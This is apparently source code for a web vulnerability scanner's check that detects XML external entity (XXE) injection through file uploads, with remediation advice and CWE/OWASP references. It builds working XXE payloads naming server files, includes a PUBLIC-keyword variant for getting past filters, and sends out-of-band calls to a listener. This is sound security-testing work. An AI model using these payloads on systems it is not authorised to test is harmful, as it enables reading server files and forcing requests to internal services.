import { callbackSpot } from '../../model/callbacks.ts';
import type { Candidate } from '../../model/candidate.ts';
import { claim, type Experiment, type Step } from '../../model/experiment.ts';
import type { Exchange } from '../../model/http.ts';
import { ProbeError } from '../../model/probe-error.ts';
import { newTrialValues, type TrialValues } from '../../proof/template.ts';
import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
import { unixFiles } from '../files/traversal-payloads.ts';
import { likeliest } from '../inputs/at-most.ts';
import { calledExperiment, expectAll, hear } from '../inputs/callback-look.ts';
import type { OpenedInput, UploadedFile } from '../inputs/input-request.ts';
import { inputSteps, openInput, requestOfInput } from '../inputs/open-input.ts';
import { kindNamed, parsedKinds } from './parsed-uploads.ts';
import { contextOf } from './plant.ts';
import { documentLike, sampleDocument } from './sample-documents.ts';
import { addressesBefore, isShown, type ShownAt, shownAt } from './shown-uploads.ts';
import { maxForms, sending, type Taking, takingFormsApart } from './upload-forms.ts';

/** `kind` is a name of one of the kinds that are parsed; `sample` is a document that the form's page shows. */
type ReadUpload = Taking & { kind: string; sample?: string };
/** `place` is the page that shows what became of the file, where the answer does not. */
type ReadBackUpload = ReadUpload & { read?: { pattern: string; path: string; place?: ShownAt; keyword: Keyword } };
/** How an entity names what it stands for: filters know one way, which has the scheme with it (XML 1.0 §4.2.2). */
type Keyword = 'SYSTEM' | 'PUBLIC "a"';
type AwaitedUpload = { token: string; candidate: Candidate<ReadBackUpload> };

/** What is imported is kept in columns that hold little: a file of Linux with one word. */
const shortFile = { path: 'proc/sys/kernel/ostype', pattern: '‹nonce›Linux\\b' };

const fileOf = ({ kind, sample }: ReadUpload, declarations: string, first = 11): UploadedFile =>
  sample === undefined ? kindNamed(kind).file(declarations) : documentLike(sample, declarations, first);
const naming = (parsed: ReadUpload, path: string, keyword: Keyword): UploadedFile =>
  fileOf(parsed, `<!ENTITY x ${keyword} "${keyword === 'SYSTEM' ? 'file://' : ''}/${path}">`);
const asText = (parsed: ReadUpload, text: string): UploadedFile => fileOf(parsed, `<!ENTITY x "${text}">`, 51);
/** Both kinds of entities: programs resolve one and not the other. */
const calling = (parsed: ReadUpload, host: string): UploadedFile => {
  const url = `http://${callbackSpot(host, '‹callback›')}`;
  return fileOf(parsed, `<!ENTITY % y SYSTEM "${url}">%y;<!ENTITY x SYSTEM "${url}">`);
};

const maxKinds = 3;

/** A drawing or a document that is sent as a file is read by a parser that opens what it names. Source: CWE-611, WSTG-INPV-07. */
export const xxeUpload = defineCheck<ReadBackUpload>({
  id: 'injection.xxe-upload',
  title: 'XML external entity injection (XXE) in a file upload',
  cwe: 611,
  owasp: 'A02:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  depth: 'deep',
  risk: 'caution',
  cost: 20,

  async detect(context) {
    if (context.writes !== 'create')
      return notApplicable('Files that are sent stay, which only a scope with "writes": "create" allows.');
    const forms = likeliest(context, await takingFormsApart(context), maxForms, 'forms that take a file');
    if (forms.length === 0) return notApplicable('No form takes a file.');
    const found: Candidate<ReadBackUpload>[] = [];
    const awaited: AwaitedUpload[] = [];
    for (const form of forms) {
      const kinds = likeliest(context, parsedKinds(form.accept, form.called), maxKinds, 'kinds of files for a form');
      const sample = await sampleFor(context, form);
      for (const { name: kind } of sample === undefined ? kinds : [{ name: 'an XML document' }]) {
        const parsed = { ...form, kind, ...(sample !== undefined && { sample }) };
        const looked = await tryFiles(context, parsed);
        if (looked?.data.read) found.push(candidateFor(looked.data));
        if (looked?.data.read) break;
        if (looked?.token) awaited.push({ token: looked.token, candidate: candidateFor(looked.data) });
      }
    }
    return [...found, ...(await calledOf(context, awaited))];
  },

  async confirm(context, { data }) {
    return (
      data &&
      experimentFor(data, await openInput(contextOf(context, data.identity), data.input), context.callbacks?.host)
    );
  },

  explain: {
    description:
      'The form takes a drawing (SVG), a map (GPX, KML), a feed (RSS, OPML) or a document (XML, DOCX, XLSX), which the server reads with an XML parser that resolves external entities: the content of a file of the server that it names comes back in the answer, or the parser opens an address that it names.',
    impact:
      'Whoever may send a file can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
    sends:
      'With `writes: "create"`, sends each form that takes a file up to three kinds that its field names (SVG, GPX, KML, RSS, OPML, XML, DOCX, XLSX): one whose entity is a text, one that names a file, one that names our listener; 4 more for a proof. They may stay, recorded before they are sent.',
    proves:
      'The answer to the form, or the page that shows what became of it, has the form of that file; the same whose entity is a text does not: files are read. Where only our listener is called, that the parser opens what is named is shown, and not that it can be read.',
    remedy:
      'Turn off document types and external entities in the parser that reads what is sent, also in the parts of archives: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET). Take no SVG where pictures are enough.',
    references: [
      'CWE-611: https://cwe.mitre.org/data/definitions/611.html',
      'OWASP XXE Prevention Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
      'OWASP File Upload Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html',
    ],
  },
});

/** The first look is at the same file without anything external: a form that refuses it is sent no other. @throws ProbeError, ProofError */
async function tryFiles(
  context: CheckContext,
  parsed: ReadUpload,
): Promise<{ data: ReadBackUpload; token?: string } | undefined> {
  const [file] = unixFiles;
  if (!file) return undefined;
  const before = await addressesBefore(context, parsed);
  const base = await answerTo(context, parsed, asText(parsed, file.path), async (answer, values) => {
    const { name } = fileOf(parsed, '');
    const place = await shownAt(context, answer, { taking: parsed, values, before, name });
    const { path, pattern } = place === undefined ? file : shortFile;
    const isThere = await isShown(context, answer, { place, pattern, values });
    return { isTaken: answer.status < 400, place, path, pattern, isThere };
  });
  if (base === undefined || base.isThere) return undefined;
  const { place, path, pattern } = base;
  const named = async (keyword: Keyword) => ({
    keyword,
    answer: await answerTo(context, parsed, naming(parsed, path, keyword), async (answer, values) => ({
      isTaken: answer.status < 400,
      isRead: await isShown(context, answer, { place, pattern, values }),
    })),
  });
  const usual = await named('SYSTEM');
  // What is taken with a text and refused with a name was looked through for the word.
  const isFiltered = base.isTaken && usual.answer?.isTaken === false;
  const { keyword, answer } = isFiltered ? await named('PUBLIC "a"') : usual;
  if (answer?.isRead)
    return { data: { ...parsed, read: { path, pattern, keyword, ...(place !== undefined && { place }) } } };
  const apart = parsed.sample === undefined ? kindNamed(parsed.kind).apart : undefined;
  if (isFiltered && apart) return tryFiles(context, { ...parsed, kind: apart.name });
  if (answer === undefined || !context.callbacks) return undefined;
  const token = context.callbacks.newToken();
  await answerTo(context, parsed, calling(parsed, context.callbacks.host), async () => true, token);
  return { data: parsed, token };
}

/** An example on the page of a form that may take documents of XML. @throws ProbeError */
async function sampleFor(context: CheckContext, { identity, pageUrl, accept }: Taking): Promise<string | undefined> {
  if (accept !== '' && !/xml|\*\/\*/.test(accept)) return undefined;
  const { status, text } = await contextOf(context, identity).http.get(pageUrl);
  return status === 200 ? sampleDocument(text) : undefined;
}

/** Those that were called for, when all were waited for once; what is called later is left to the end of the run. */
async function calledOf(
  context: CheckContext,
  awaited: readonly AwaitedUpload[],
): Promise<Candidate<ReadBackUpload>[]> {
  if (awaited.length === 0) return [];
  const calls = await hear(
    context,
    awaited.map(({ token }) => token),
  );
  const isCalled = ({ token }: AwaitedUpload) => calls.some((call) => call.token === token);
  expectAll(
    context,
    awaited.filter((each) => !isCalled(each)),
  );
  return awaited.filter(isCalled).map(({ candidate }) => candidate);
}

/** What is seen of the answer to a form. Undefined where the form refuses the file. */
async function answerTo<T>(
  context: CheckContext,
  taking: Taking,
  file: UploadedFile,
  look: (answer: Exchange, values: TrialValues) => Promise<T>,
  token = '',
): Promise<T | undefined> {
  const sender = contextOf(context, taking.identity);
  try {
    const opened = await openInput(sender, taking.input);
    const values = newTrialValues(context.nonce, () => token);
    const request = await requestOfInput(sender, opened, sending(taking, opened, file), values);
    return await context.store?.(taking.identity, request, async (answer) =>
      answer.status === 413 || answer.status === 415 ? undefined : look(answer, values),
    );
  } catch (error) {
    if (error instanceof ProbeError && error.code === 'refused') return undefined;
    throw error;
  }
}

function candidateFor(parsed: ReadBackUpload): Candidate<ReadBackUpload> {
  const { input, identity, needs, kind, read } = parsed;
  const who = identity === '' ? 'Anybody' : `The test identity "${identity}"`;
  return {
    location: { url: input.url, method: 'POST', parameter: input.parameter, parameterIn: 'body' as const },
    route: input.route,
    ...(read
      ? {
          detail: `${who} sends ${kind} that names the file /${read.path}, and ${read.place?.url.replaceAll(/‹\w+›/g, '…') ?? 'the answer'} shows that file.`,
          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:U/C:H/I:N/A:N`,
        }
      : {
          detail: `${who} sends ${kind} that names a listener of the audit, and the parser called it; that files can be read was not shown.`,
          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:C/C:L/I:N/A:N`,
        }),
    data: parsed,
  };
}

function experimentFor(parsed: ReadBackUpload, input: OpenedInput, host = ''): Experiment {
  const { read, identity } = parsed;
  const asSender = (step: Step): Step => ('http' in step && identity !== '' ? { ...step, identity } : step);
  const action = (file: UploadedFile) => sending(parsed, input, file);
  if (!read) {
    const way = { action: action(calling(parsed, host)), inert: action(asText(parsed, '‹callback›')) };
    const { steps, control } = calledExperiment(
      { input, way },
      {
        sent: 'The file names an address of the listener with a random word that nothing else contains.',
        called: 'The parser calls that address.',
        control: 'With the word as a text of the file there is nothing to open.',
      },
    );
    return { steps: steps.map(asSender), control: control.map(asSender) };
  }
  const send = (file: UploadedFile, note: string, pattern = read.pattern): Step[] => {
    const shown = claim('body', 'matches', pattern, 'It has the form of the file.');
    const { place } = read;
    if (place === undefined) return inputSteps(input, action(file), { note, expect: [shown] }).map(asSender);
    const { url, viewer, capture } = place;
    const sent = inputSteps(input, action(file), {
      note,
      expect: [claim('status', 'less-than', '400')],
      ...(capture && { capture: [capture] }),
    });
    const page = { http: { url }, note: 'The page that shows what became of the file is opened.' };
    const opened: Step = { ...page, expect: [claim('status', 'less-than', '400')], hasEffect: true };
    const asViewer = viewer === '' ? {} : { identity: viewer };
    return [...sent.map(asSender), { ...opened, ...asViewer }, { ...page, expect: [shown], ...asViewer }];
  };
  // The page still shows what was imported before.
  const another = (text: string): string => text.replaceAll('‹nonce›', '‹nonce2›');
  const inert = asText(parsed, read.path);
  return {
    steps: send(naming(parsed, read.path, read.keyword), 'What is sent names a file, and the parser opens it.'),
    control: send(
      { ...inert, content: another(inert.content) },
      'The same whose entity is a text opens nothing.',
      another(read.pattern),
    ),
  };
}
